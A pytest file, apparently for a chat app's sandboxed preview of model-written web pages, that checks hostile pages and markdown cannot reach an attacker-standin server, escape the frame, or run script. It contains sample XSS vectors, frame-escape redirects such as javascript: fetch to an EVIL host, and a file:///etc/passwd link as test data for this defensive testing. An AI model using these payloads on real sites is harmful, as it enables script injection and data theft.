"""Pages that a model wrote: seen, kept as versions, and kept away from everything else."""

import http.server
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from server.web.pages import answered, ask, shown

pytestmark = pytest.mark.slow

HOSTILE = (Path(__file__).parent / "hostile_page.html").read_text()
COUNTER = """<!DOCTYPE html>
<html><head><title>Counter</title><style>body { background: COLOUR }</style></head>
<body><button onclick="this.textContent = Number(this.textContent) + 1">0</button></body></html>"""


class Stranger:
    """Another server, which remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        stranger = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                stranger.asked.append(self.path)
                body = HOSTILE.replace("EVIL", stranger.url).encode() if self.path == "/hostile" else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                """Says nothing."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    yield server
    server.stop()


def fenced(code: str, info: str = "html") -> str:
    return f"Here it is.\n\n```{info}\n{code}\n```\n\nDone."


def preview(page: Any) -> Any:
    return page.frame_locator("#panel-preview iframe")


def test_a_page_opens_by_itself_and_runs(serve, open_page) -> None:
    page = open_page(serve(lambda prompt: fenced(COUNTER.replace("COLOUR", "red")), token_seconds=0.01))
    ask(page, "Build a counter")
    page.get_by_role("heading", name="Counter").wait_for()  # while it is being written, as code
    assert page.get_by_role("tab", name="Code").get_attribute("aria-selected") == "true"
    button = preview(page).get_by_role("button")
    button.click()
    button.click()
    assert button.inner_text() == "2"
    assert page.locator("#panel-preview iframe").get_attribute("sandbox") == "allow-scripts"
    answer = answered(page)
    assert "Counter" in answer.locator(".code-bar").inner_text()
    assert not answer.locator("pre").is_visible()
    assert button.inner_text() == "2"  # the end of the answer did not start it again
    assert page.errors == []


def test_versions_code_copy_and_download(serve, open_page) -> None:
    colours = iter(["red", "blue"])
    page = open_page(
        serve(lambda prompt: fenced(COUNTER.replace("COLOUR", next(colours)))),
        permissions=["clipboard-read", "clipboard-write"],
    )
    colour = "getComputedStyle(document.body).backgroundColor"
    pane = page.get_by_role("complementary", name="Preview")
    ask(page, "Build a counter")
    answered(page)
    ask(page, "Make it blue")
    answered(page, 2)
    pane.get_by_text("2 of 2").wait_for()
    assert preview(page).locator("body").evaluate(f"() => {colour}") == "rgb(0, 0, 255)"
    pane.get_by_role("button", name="Earlier version").click()
    pane.get_by_text("1 of 2").wait_for()
    assert preview(page).locator("body").evaluate(f"() => {colour}") == "rgb(255, 0, 0)"

    pane.get_by_role("tab", name="Code").click()
    code = COUNTER.replace("COLOUR", "red")
    assert pane.get_by_role("tabpanel").inner_text() == code
    assert pane.locator(".t-tag").count() > 5
    pane.get_by_role("button", name="Copy").click()
    page.wait_for_timeout(200)
    assert page.evaluate("() => navigator.clipboard.readText()") == code
    with page.expect_download() as download:
        pane.get_by_role("button", name="Download the file").click()
    assert download.value.suggested_filename == "page.html"
    assert download.value.path().read_text() == code

    page.keyboard.press("Escape")
    assert not pane.is_visible()
    page.reload()
    answered(page, 2)
    assert page.locator("iframe").count() == 0  # what is opened again runs only when asked for
    page.locator(".answer").first.get_by_role("button", name="Preview").click()
    pane.get_by_text("1 of 2").wait_for()


def test_a_drawing_and_files_side_by_side(serve, open_page) -> None:
    files = "\n\n".join(
        [
            fenced('<!DOCTYPE html><link rel="stylesheet" href="style.css"><p>hi</p><script src="app.js"></script>'),
            fenced("p { color: rgb(1, 2, 3) }", "css"),
            fenced("document.querySelector('p').textContent = 'from app.js'", "js"),
        ]
    )
    drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><circle r="20"/></svg>'
    answers = iter([files, fenced(drawing, "svg")])
    page = open_page(serve(lambda prompt: next(answers)))
    ask(page, "Build it")
    paragraph = preview(page).locator("p")
    preview(page).get_by_text("from app.js").wait_for()
    assert paragraph.evaluate("node => getComputedStyle(node).color") == "rgb(1, 2, 3)"
    answered(page)
    ask(page, "Draw it")
    answered(page, 2)
    page.get_by_label("Artifact", exact=True).select_option("drawing")
    assert preview(page).locator("circle").count() == 1


def test_what_ordinary_pages_do_works(serve, open_page) -> None:
    todo = """<!DOCTYPE html><title>To do</title>
    <form><input id="text" required><button>Add</button></form><ul></ul>
    <a href="#end">jump</a> <a href="/elsewhere">away</a>
    <script>
    const kept = JSON.parse(localStorage.getItem("items") ?? "[]");
    document.addEventListener("DOMContentLoaded", () => console.log("content loaded"));
    window.onload = () => console.log("loaded", { a: 1 });
    document.querySelector("form").addEventListener("submit", (event) => {
      event.preventDefault();
      kept.push(text.value);
      localStorage.items = JSON.stringify(kept);
      const item = document.createElement("li");
      item.textContent = text.value + " " + localStorage.length;
      document.querySelector("ul").append(item);
      text.value = "";
    });
    console.log(eval("6 * 7"));
    undefinedFunction();
    </script>"""
    page = open_page(serve(lambda prompt: fenced(todo)))
    ask(page, "Build it")
    frame = preview(page)
    field = frame.get_by_role("textbox")
    field.fill("milk")
    field.press("Enter")
    field.fill("bread")
    frame.get_by_role("button", name="Add").click()
    frame.get_by_role("button", name="Add").click()  # the field is empty again, and required
    assert frame.get_by_role("listitem").all_inner_texts() == ["milk 1", "bread 1"]
    frame.get_by_text("away").click()
    frame.get_by_text("jump").click()
    said = page.locator(".console li")
    page.get_by_text("Console: 2 of 5 are errors").wait_for()
    page.locator(".console summary").click()
    texts = said.all_inner_texts()
    assert {"42", "content loaded", 'loaded {"a":1}'} <= set(texts)
    assert any("undefinedFunction is not defined (line " in text for text in texts)
    assert any("a preview has no network" in text and "/elsewhere" in text for text in texts)
    assert page.evaluate("() => Object.keys(localStorage).filter(key => !key.startsWith('codemill.'))") == []


def test_a_hostile_page_reaches_nothing(serve, open_page, stranger: Stranger) -> None:
    prompts: list[str] = []
    client = serve(lambda prompt: prompts.append(prompt) or fenced(page_text))
    page_text = HOSTILE.replace("EVIL", stranger.url).replace("OWN", str(client.base_url).rstrip("/"))
    page = open_page(client)
    page.evaluate("() => { localStorage.setItem('codemill.secret', 'treasure'); document.cookie = 'secret=treasure'; }")
    opened: list[Any] = []
    for event in ("dialog", "popup", "download"):
        page.on(event, lambda item: opened.append(item))
    page.context.on("page", lambda item: opened.append(item))
    ask(page, "Build it")
    answered(page)
    frame = page.wait_for_selector("#panel-preview iframe").content_frame()
    frame.wait_for_function("() => window.finished", timeout=60_000)
    results = frame.evaluate("() => results")
    harmless = {
        **dict.fromkeys(("own origin", "own storage", "popup", "frame element"), "null"),
        **dict.fromkeys(("alert", "print", "link top", "link blank", "download", "messages"), "undefined"),
        "confirm": "false",
        "prompt": "null",
        # submitting says nothing, wherever it goes; the stranger would have heard of it
        **dict.fromkeys(("form", "form request"), "done"),
        # the queue takes it, and the policy drops it
        "beacon": "true",
    }
    refused = {"SecurityError", "TypeError", "NotAllowedError", "blocked", "ReferenceError", "NotSupportedError"}
    for name, result in results.items():
        assert result == harmless.get(name) or result in refused, (name, result)
    assert len(results) > 40
    assert stranger.asked == []
    assert opened == []
    assert len(prompts) == 1
    assert page.url.startswith(str(client.base_url))
    assert page.title() == "Build it · Codemill"
    page.locator(".console summary").click()
    assert page.locator(".console li").count() == 50  # the most that is listed
    assert page.locator(".console li *").count() == 0
    ask(page, "Still there?")
    answered(page, 2)


def test_the_same_page_is_not_harmless_elsewhere(serve, open_page, stranger: Stranger) -> None:
    """That the test above could fail: in a tab of its own, the page reaches the stranger in many ways."""
    page = open_page(serve())
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.goto(f"{stranger.url}/hostile")
    page.wait_for_timeout(3_000)
    for path in ("/img", "/style.css", "/script.js", "/frame", "/srcdoc-fetch"):
        assert path in stranger.asked


@pytest.mark.parametrize(
    "script",
    [
        "location = 'EVIL/self?secret'",
        "location.replace('EVIL/replace')",
        "document.write('<meta http-equiv=refresh content=\"0;url=EVIL/refresh\">')",
        "open('EVIL/named', '_self')",
        "location = 'data:text/html,<img src=EVIL/data>'",
        "location = URL.createObjectURL(new Blob(['<img src=EVIL/blob>'], {type: 'text/html'}))",
        "location = 'javascript:fetch(`EVIL/javascript`)'",
        "history.pushState({}, '', '/'); location.reload()",
        "location = 'OWN/'",
        "location = 'OWN/v1/models'",
    ],
)
def test_a_page_cannot_leave_its_frame(serve, open_page, stranger: Stranger, script: str) -> None:
    client = serve(lambda prompt: fenced(f"<!DOCTYPE html><p>here</p><script>{script_text}</script>"))
    script_text = script.replace("EVIL", stranger.url).replace("OWN", str(client.base_url).rstrip("/"))
    page = open_page(client)
    ask(page, "Build it")
    answered(page)
    page.wait_for_timeout(1_500)
    assert stranger.asked == []
    assert page.url.startswith(str(client.base_url))
    assert page.locator("#messages").is_visible()
    # nothing of the page's own is shown in the frame, either
    assert all("Ask, or describe" not in frame.content() for frame in page.frames[1:])


def test_a_page_that_never_returns_does_not_stop_the_chat(serve, open_page) -> None:
    page = open_page(serve(lambda prompt: fenced("<!DOCTYPE html><script>for (;;);</script>")))
    ask(page, "Build it")
    answered(page)
    page.wait_for_timeout(500)
    page.get_by_role("button", name="Close the preview").click(timeout=5_000)
    ask(page, "Still there?")
    page.get_by_role("button", name="Stop").wait_for(state="hidden")
    page.wait_for_function("() => document.querySelectorAll('.answer').length === 2")
    page.close()


HOSTILE_MARKDOWN = """<script>window.owned = 1</script><img src=EVIL/img onerror="window.owned = 1">

<iframe src="EVIL/iframe"></iframe> <style>body { display: none }</style> <svg onload="window.owned = 1">

[click](javascript:window.owned=1) [tab](JaVaScRiPt&colon;window.owned=1) [data](data:text/html,<script>1</script>)
[space]( javascript:window.owned=1) [file](file:///etc/passwd) [blob](blob:null/1) [view](vbscript:x)
<javascript:window.owned=1> [mail](mailto:a@b.c) [web](https://example.com/ok "title")
[quote](https://example.com/"onmouseover="window.owned=1) ![remote](EVIL/remote.png) ![](EVIL/empty.png)
[![nested](EVIL/nested.png)](https://example.com/nested)

| <img src=EVIL/cell> | [x](javascript:window.owned=1) |
|---|---|
| <script>window.owned = 1</script> | `</code><script>window.owned = 1</script>` |

# <img src=EVIL/heading onerror=window.owned=1>

```html"onload="window.owned=1
<script>window.owned = 1</script>
```

~~~__proto__
constructor
~~~

```constructor
x
```

> <div onclick="window.owned = 1">

```js
never closed </pre><script>window.owned = 1</script>"""


def test_hostile_markdown_does_nothing(serve, open_page, stranger: Stranger) -> None:
    page = open_page(serve(lambda prompt: HOSTILE_MARKDOWN.replace("EVIL", stranger.url), token_seconds=0.002))
    ask(page, "<script>window.owned = 1</script>")
    answer = answered(page)
    for link in answer.locator("a").all():
        assert re.match(r"https?://|mailto:", link.get_attribute("href"))
        assert "noopener" in link.get_attribute("rel")
    assert answer.locator("img, script, iframe, style, svg[onload], object, form").count() == 0
    attributes = answer.evaluate(
        "node => [...node.querySelectorAll('*')].flatMap((child) => [...child.attributes].map(({name}) => name))"
    )
    assert not [name for name in attributes if name.startswith("on") or name == "style"]
    for text in answer.locator(".dead-link").all():
        text.click()
    assert page.evaluate("() => window.owned") is None
    assert shown(page, "never closed </pre><script>window.owned = 1</script>").count() == 1
    assert stranger.asked == []
    assert page.errors == []


def test_a_huge_answer_leaves_the_page_usable(serve, open_page) -> None:
    text = (
        "*a **b `c [d](" * 4000 + "\n\n" + "- " * 3000 + "\n\n" + "x" * 100_000 + "\n\n```py\n" + "y = 1  # z\n" * 5000
    )
    page = open_page(serve(lambda prompt: text, max_model_len=400_000))
    ask(page, "Hello")
    page.wait_for_function(
        "() => document.querySelector('.answer') && !document.querySelector('[data-running]')", timeout=60_000
    )
    started = page.evaluate("() => performance.now()")
    page.get_by_role("textbox", name="Message", exact=True).fill("still quick")
    assert page.evaluate("() => performance.now()") - started < 3_000


def test_a_page_finds_no_web_rtc(serve, open_page) -> None:
    """No policy forbids it: its objects are taken out of the page. docs/web.md says what that is worth."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(3)
        address = f"stun:127.0.0.1:{listener.getsockname()[1]}"
        call = (
            f"const c = new RTCPeerConnection({{iceServers: [{{urls: '{address}'}}]}});"
            "c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer));"
        )
        page = open_page(serve(lambda prompt: fenced(f"<!DOCTYPE html><script>{call}</script>")))
        ask(page, "Build it")
        answered(page)
        with pytest.raises(TimeoutError):
            listener.recvfrom(100)
        # outside the frame the same code does reach it
        page.evaluate(f"() => {{ {call} }}")
        assert listener.recvfrom(100)
